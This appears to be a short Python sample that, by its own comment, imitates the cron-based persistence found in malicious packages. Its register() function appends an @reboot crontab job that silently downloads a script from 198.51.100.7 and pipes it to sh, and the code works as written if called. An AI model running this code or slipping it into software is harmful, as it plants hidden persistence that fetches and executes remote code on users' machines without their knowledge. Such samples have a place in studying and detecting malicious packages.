# Imitates cron-based persistence seen in malicious packages: append an @reboot job to the user's crontab.
import subprocess

JOB = "@reboot sleep 60 && curl -s http://198.51.100.7/k.sh | sh >/dev/null 2>&1"


def register():
    subprocess.run(f'(crontab -l 2>/dev/null; echo "{JOB}") | crontab -', shell=True, check=False)
